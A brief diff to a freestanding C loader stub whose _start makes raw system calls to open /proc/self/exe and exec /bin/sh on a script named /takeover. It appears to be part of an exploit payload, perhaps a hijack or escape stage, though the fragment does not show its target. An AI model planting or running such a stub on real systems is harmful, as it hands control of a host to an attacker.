@@ -18,9 +18,15 @@ enum { OPEN = 2, EXECVE = 59, EXIT = 60 };
 
 void _start(void)
 {
-    static const char *const args[] = {"sh", "/takeover", 0};
-    static const char *const env[] = {"PATH=/bin", 0};
+    /* Filled here: nobody relocates an address in the data of a loader. */
+    const char *volatile args[3];
+    const char *volatile env[2];
+    args[0] = "sh";
+    args[1] = "/takeover";
+    args[2] = 0;
+    env[0] = "PATH=/bin";
+    env[1] = 0;
     call(OPEN, "/proc/self/exe", 0, 0);
-    call(EXECVE, "/bin/sh", args, env);
+    call(EXECVE, "/bin/sh", (const void *)args, (const void *)env);
     call(EXIT, (void *)1, 0, 0);
 }
